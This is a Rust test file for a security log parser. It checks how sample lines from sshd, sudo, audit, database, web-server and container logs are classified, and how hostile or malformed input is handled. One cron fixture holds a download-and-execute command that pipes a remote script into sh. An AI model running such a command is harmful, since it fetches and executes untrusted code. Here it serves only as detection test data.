//! What is read of logs in all their forms, and of hostile ones.

use super::*;
use event::WallTime;

const YEAR_2027: u64 = 1_800_000_000_000_000_000;

fn parser() -> Parser {
    Parser::new(&[], Clock::recorded(WallTime(YEAR_2027)), Executions::Told).unwrap()
}

fn events(lines: &[&str]) -> Vec<Event> {
    let (mut parser, mut out) = (parser(), Vec::new());
    lines.iter().for_each(|line| parser.read(line, None, &mut out));
    parser.finish(&mut out);
    out
}

fn told(line: &str) -> LogRecord {
    match <[Event; 1]>::try_from(events(&[line])) {
        Ok([Event { kind: Kind::Log(record), .. }]) => LogRecord::clone(&record),
        other => panic!("{line}: {other:?}"),
    }
}

/// `act user target source service method`, `-` where there is none.
fn said(line: &str) -> String {
    let record = told(line);
    let parts =
        [record.user.as_str(), record.target.as_str(), &record.source, &record.service, &record.method];
    let parts = parts.map(|part| if part.is_empty() { "-" } else { part });
    format!("{} {}", record.act.as_str(), parts.join(" "))
}

fn check(cases: &[(&str, &str)]) {
    for (line, expect) in cases {
        assert_eq!(said(line), *expect, "{line}");
    }
}

#[test]
fn logins_of_ssh_are_told() {
    check(&[
        (
            "Sep  6 09:57:21 web sshd[581]: Accepted publickey for eve from 192.0.2.4 port 56296 ssh2: RSA SHA256:1M4",
            "success eve - 192.0.2.4 ssh publickey",
        ),
        (
            "Jul  3 21:44:07 web sshd[26279]: Failed password for invalid user sam from 192.0.2.9 port 51676 ssh2",
            "failure sam - 192.0.2.9 ssh password",
        ),
        (
            "Feb 12 14:10:21 web sshd-session[16378]: Invalid user pascal from 192.0.2.9 port 53502 [preauth]",
            "failure pascal - 192.0.2.9 ssh unknown_user",
        ),
        (
            "2020-03-25 07:46:15.205351-0700  web sshd[6738]: User root from 192.0.2.9 not allowed because not listed in AllowUsers",
            "failure root - 192.0.2.9 ssh denied_user",
        ),
        (
            "Nov 2 15:40:14 web sshd[28179]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.9 user=shop",
            "failure shop - 192.0.2.9 sshd pam",
        ),
        (
            "Dec  1 18:59:33 web sshd[1189573]: banner exchange: Connection from 192.0.2.9 port 34388: invalid format",
            "probe - - 192.0.2.9 ssh banner",
        ),
        (
            "Dec 16 14:10:24 web sshd[16379]: refused connect from example.com (192.0.2.1)",
            "probe - - 192.0.2.1 ssh refused",
        ),
        (
            "Mar 24 06:07:15 web sshd[195]: Connection closed by 192.0.2.2 port 55462 [preauth]",
            "message - - - - -",
        ),
    ]);
}

#[test]
fn use_of_privilege_changes_of_users_jobs_and_services_are_told() {
    check(&[
        (
            "Jun 25 15:48:21 web sudo:  mike : TTY=pts/0 ; PWD=/home/mike ; USER=root ; COMMAND=/bin/su -",
            "privilege mike root - sudo -",
        ),
        (
            "Jun 25 16:15:45 web sudo:     mike : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/ls",
            "privilege_denied mike root - sudo passwords",
        ),
        (
            "Apr 13 08:36:31 ix sudo:     eve : user NOT in sudoers ; TTY=ttypZ ; PWD=/home/eve ; USER=root ; COMMAND=/bin/ls",
            "privilege_denied eve root - sudo not_in_sudoers",
        ),
        (
            "Apr 27 15:22:23 niban su[2921936]: failed: ttyq4 changing from ldap to root",
            "privilege_denied ldap root - su password",
        ),
        ("Apr 22 17:51:51 web su: dcid to root on /dev/ttyp1", "privilege dcid root - su -"),
        (
            "Dec 21 16:42:19 web useradd[1337]: new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/bash",
            "user_added - eve - - 0",
        ),
        ("Dec 21 16:42:19 web usermod[1]: add 'eve' to group 'sudo'", "member_added eve sudo - - -"),
        ("Dec 21 16:42:19 web usermod[1]: add 'eve' to shadow group 'sudo'", "message eve sudo - - -"),
        (
            "Dec 21 16:42:19 web passwd[1]: pam_unix(passwd:chauthtok): password changed for eve",
            "password_changed - eve - passwd -",
        ),
        (
            "Dec 21 16:42:19 web CRON[1]: (root) CMD (curl http://192.0.2.1/x | sh)",
            "cron_run root - - cron -",
        ),
        ("Dec 21 16:42:19 web crontab[1]: (eve) REPLACE (root)", "cron_changed eve root - cron replace"),
        (
            "Dec 21 16:42:19 web kernel: [11.1] device eth0 entered promiscuous mode",
            "promiscuous - eth0 - - -",
        ),
        (
            "2023-10-05T11:47:20.799042+02:00 leto kernel: [869507.505196] su[1433535]: segfault at 7f1f ip 00 sp 00 error 6 in ld.so",
            "crash - su - - segfault",
        ),
    ]);
    let started = told("Dec 21 16:42:19 web systemd[1]: Started evil.service - Evil.");
    assert_eq!((started.act, started.unit.as_str()), (Act::ServiceStarted, "evil.service - Evil"));
    let sudo = told("Jun 25 15:48:21 web sudo:  mike : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/su -");
    assert_eq!(sudo.command.as_str(), "/bin/su -");
}

#[test]
fn services_tell_who_was_refused() {
    check(&[
        (
            "2020-04-16T05:13:40.861934Z 344 [Note] Access denied for user 'root'@'192.0.2.54' (using password: YES)",
            "failure root - 192.0.2.54 mysql password",
        ),
        (
            "2023-01-01 12:00:00.000 UTC [1234] postgres@db FATAL:  password authentication failed for user \"postgres\"",
            "failure postgres - - postgresql password",
        ),
        (
            "2023-01-01 12:00:00.000 UTC [1] FATAL:  no pg_hba.conf entry for host \"192.0.2.7\", user \"eve\", database \"db\", SSL off",
            "failure eve - 192.0.2.7 postgresql denied_user",
        ),
        (
            "[Thu Oct 13 12:24:49.880562 2022] [auth_basic:error] [pid 10:tid 1] [client 192.0.2.58:50229] AH01618: user sss not found: /",
            "failure sss - 192.0.2.58 apache unknown_user",
        ),
        (
            "2014/12/30 06:07:37 [error] 80#2: *1 user \"eve\": password mismatch, client: 192.0.2.1, server: localhost, request: \"GET / HTTP/1.1\"",
            "failure eve - 192.0.2.1 nginx password",
        ),
        (
            "1:M 01 Jan 2023 12:00:00.000 # Possible SECURITY ATTACK detected. It looks like somebody is sending POST or Host: commands to Redis. This is likely due to an attacker. Connection from 192.0.2.3:46838 aborted.",
            "probe - - 192.0.2.3 redis attack",
        ),
        (
            "2022/03/01 12:57:58 ...ers/web/auth/auth.go:200:SignInPost() [I] Failed authentication attempt for eve from 192.0.2.1:39522: user does not exist [uid: 0]",
            "failure eve - 192.0.2.1 gitea password",
        ),
    ]);
    let refused = events(&[r#"192.0.2.9 - eve [10/Dec/2021:14:41:40 +0100] "GET / HTTP/1.1" 401 1 "-" "-""#]);
    let kinds: Vec<_> = refused.iter().map(|event| event.class().as_str()).collect();
    assert_eq!(kinds, ["authentication", "http_request"]);
}

#[test]
fn a_pattern_of_the_configuration_comes_before_those_that_are_built_in() {
    let own = Pattern {
        programs: vec!["shopd".into()],
        act: Act::Failure,
        service: "shop".into(),
        text: "login of <user> (<source>) refused".into(),
        ..Pattern::default()
    };
    let mut parser = Parser::new(&[own], Clock::recorded(WallTime(YEAR_2027)), Executions::Told).unwrap();
    let mut out = Vec::new();
    parser.read("Feb 12 14:10:21 web shopd[1]: login of eve (192.0.2.1) refused", None, &mut out);
    let Kind::Log(record) = &out[0].kind else { panic!() };
    assert_eq!(
        (record.act, record.service.as_str(), record.source.as_str()),
        (Act::Failure, "shop", "192.0.2.1")
    );
    let wrong = Pattern { text: "<nobody> knows this".into(), ..Pattern::default() };
    assert!(Parser::new(&[wrong], Clock::live(), Executions::Told).is_err());
}

#[test]
fn the_journal_vouches_for_services_of_root_only() {
    let entry = |uid: &str| {
        format!(
            r#"{{"__REALTIME_TIMESTAMP":"1650000000000000","_HOSTNAME":"web","SYSLOG_IDENTIFIER":"sshd","_UID":"{uid}","_SYSTEMD_UNIT":"ssh.service","MESSAGE":"Failed password for root from 192.0.2.1 port 1 ssh2"}}"#
        )
    };
    let by_root = told(&entry("0"));
    assert_eq!(
        (by_root.act, by_root.unit.as_str(), by_root.log.as_str()),
        (Act::Failure, "ssh.service", "journal")
    );
    let sudo = entry("1000").replace("sshd", "sudo").replace(
        "Failed password for root from 192.0.2.1 port 1 ssh2",
        "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
    );
    assert_eq!(told(&sudo).act, Act::Message);
    assert_eq!(told(&sudo.replace("1000", "0")).act, Act::Privilege);
    let bytes = r#"{"__REALTIME_TIMESTAMP":"1","MESSAGE":[102,255,102]}"#;
    assert_eq!(told(bytes).message.as_str(), "f\u{fffd}f");
}

#[test]
fn the_output_of_a_container_is_its_own_and_lines_in_parts_are_joined() {
    let id = ContainerId([7; 32]);
    let (mut parser, mut out) = (parser(), Vec::new());
    let line = |text: &str| {
        let text = serde_json::to_string(text).unwrap();
        format!(r#"{{"log":{text},"stream":"stderr","time":"2021-08-24T09:52:13.5Z"}}"#)
    };
    parser.read(&line("Access denied for user 'root'@"), Some(id), &mut out);
    assert!(out.is_empty());
    parser.read(&line("'192.0.2.1' (using password: YES)\n"), Some(id), &mut out);
    let Kind::Log(record) = &out[0].kind else { panic!("{out:?}") };
    assert_eq!((record.act, record.log.as_str()), (Act::Failure, "container 070707070707"));
    assert_eq!((out[0].owner, out[0].wall.0 / 1_000_000_000), (Owner::Container(id), 1_629_798_733));
    out.clear();
    let forged = line("type=USER_LOGIN msg=audit(1.000:1): acct=\"root\" addr=192.0.2.1 res=failed\n");
    parser.read(&forged, Some(id), &mut out);
    let Kind::Log(record) = &out[0].kind else { panic!("{out:?}") };
    assert_eq!((record.act, record.record.as_str()), (Act::Message, ""), "a container is no audit daemon");
}

#[test]
fn records_of_the_audit_log_tell_what_they_are_about() {
    let check = |line: &str, expect: &str| assert_eq!(said(line), expect, "{line}");
    check(
        "type=USER_LOGIN msg=audit(1450770603.209:1): pid=1 uid=0 auid=1000 ses=3 msg='op=login acct=\"eve\" exe=\"/usr/sbin/sshd\" hostname=192.0.2.1 addr=192.0.2.1 terminal=sshd res=failed'",
        "failure eve - 192.0.2.1 ssh login",
    );
    check(
        "type=USER_AUTH msg=audit(1450770603.209:1): pid=1 uid=1000 auid=1000 ses=3 msg='op=PAM:authentication acct=726F6F74 exe=\"/usr/bin/su\" hostname=? addr=? terminal=/dev/pts/0 res=failed'",
        "failure root - - su pam",
    );
    check(
        "node=web type=ADD_USER msg=audit(1450770603.209:1): pid=1 uid=0 auid=0 ses=3 msg='op=add-user acct=\"eve\" exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=? res=success'",
        "user_added eve eve - - -",
    );
    check(
        "type=CONFIG_CHANGE msg=audit(1450770603.209:1): audit_enabled=0 old=1 auid=1000 ses=1 res=1",
        "audit_stopped 1000 - - - -",
    );
    check(
        "type=ANOM_ABEND msg=audit(1696431282.553:8283): auid=1000 uid=1000 ses=4 pid=1 comm=\"su\" exe=\"/usr/bin/su\" sig=11 res=1\u{1d}AUID=\"bui\"",
        "crash bui su - - 11",
    );
    let stop = told(
        "type=SERVICE_STOP msg=audit(1450770603.209:1): pid=1 uid=0 auid=4294967295 msg='unit=firewalld comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'",
    );
    assert_eq!(
        (stop.act, stop.unit.as_str(), stop.record.as_str()),
        (Act::ServiceStopped, "firewalld", "SERVICE_STOP")
    );
    assert_eq!((stop.user.is_empty(), stop.success), (true, Some(true)));
}

#[test]
fn programs_are_joined_from_the_records_of_a_call_however_they_lie() {
    let syscall = |serial: u32, pid: u32| {
        format!(
            "type=SYSCALL msg=audit(1604994496.155:{serial}): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid={pid} auid=1000 uid=1000 gid=1000 euid=0 tty=pts0 ses=1 comm=\"rm\" exe=\"/usr/bin/rm\" key=(null)"
        )
    };
    let execve = |serial: u32, name: &str| {
        format!("type=EXECVE msg=audit(1604994496.155:{serial}): argc=2 a0=\"rm\" a1={name}")
    };
    let lines = [
        syscall(1, 10),
        syscall(2, 20),
        execve(2, "\"-f\""),
        execve(1, "2F746D702F6120622E747874"),
        "type=PATH msg=audit(1604994496.155:1): item=0 name=\"/usr/bin/rm\" inode=1 dev=08:01 mode=0104755 ouid=0".into(),
        "type=CWD msg=audit(1604994496.155:1): cwd=\"/root\"".into(),
        "type=PROCTITLE msg=audit(1604994496.155:1): proctitle=726D".into(),
    ];
    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
    let found: Vec<_> = events(&lines)
        .into_iter()
        .map(|event| match event.kind {
            Kind::Exec(exec) => (event.actor.unwrap().pid, exec.argv.command_line().to_string(), exec.setid),
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!(found, [(10, "rm /tmp/a b.txt".to_owned(), true), (20, "rm -f".to_owned(), false)]);
}

#[test]
fn an_audit_log_that_never_ends_its_calls_is_bounded() {
    let (mut parser, mut out) = (parser(), Vec::new());
    for serial in 0..1000 {
        let line = format!(
            "type=SYSCALL msg=audit(1604994496.155:{serial}): arch=c000003e syscall=59 success=yes comm=\"x\" exe=\"/x\""
        );
        parser.read(&line, None, &mut out);
    }
    assert_eq!(out.len(), 1000 - 64);
    parser.finish(&mut out);
    assert_eq!(out.len(), 1000);
}

#[test]
fn hostile_lines_are_read_in_bounds() {
    let long = format!("Feb 12 14:10:21 web sshd[1]: {}", "x".repeat(10 << 20));
    let record = told(&long);
    assert_eq!((record.message.as_str().len(), record.message.full_len()), (MESSAGE_BYTES, Some(10 << 20)));
    let nested = format!(r#"{{"log":{}"#, "[".repeat(100_000));
    assert_eq!(told(&nested).act, Act::Message);
    for line in [
        "type=A msg=audit(",
        "type=A msg=audit():",
        "type=USER_AUTH msg=audit(99999999999999999999.999:1): x='''''=\"",
        "<999>Feb 12 14:10:21 web sshd[1]: x",
        "\u{0}\u{0}",
        "{\"__REALTIME_TIMESTAMP\":\"18446744073709551615\"}",
        "- [",
        "192.0.2.1 - - [",
    ] {
        let _ = events(&[line]);
    }
}

#[test]
fn a_file_is_known_by_its_first_line() {
    for line in [
        "Feb 12 14:10:21 web sshd[16378]: Invalid user x",
        "type=CWD msg=audit(1604994496.155:1): cwd=\"/root\"",
        "----",
        r#"{"log":"x\n","stream":"stdout","time":"2021-08-24T09:52:13.20764059Z"}"#,
        r#"{"__REALTIME_TIMESTAMP":"1650000000000000","MESSAGE":"x"}"#,
        r#"192.0.2.9 - - [10/Dec/2021:14:41:40 +0100] "GET / HTTP/1.1" 200 1"#,
        "2022/03/01 12:57:58 [error] 80#2: x",
    ] {
        assert!(is_log_line(line), "{line}");
    }
    for line in
        [r#"{"watchkeeper":"events"}"#, r#"{"kind":"Event","time":"2021-08-24T09:52:13Z"}"#, "hello", ""]
    {
        assert!(!is_log_line(line), "{line}");
    }
}
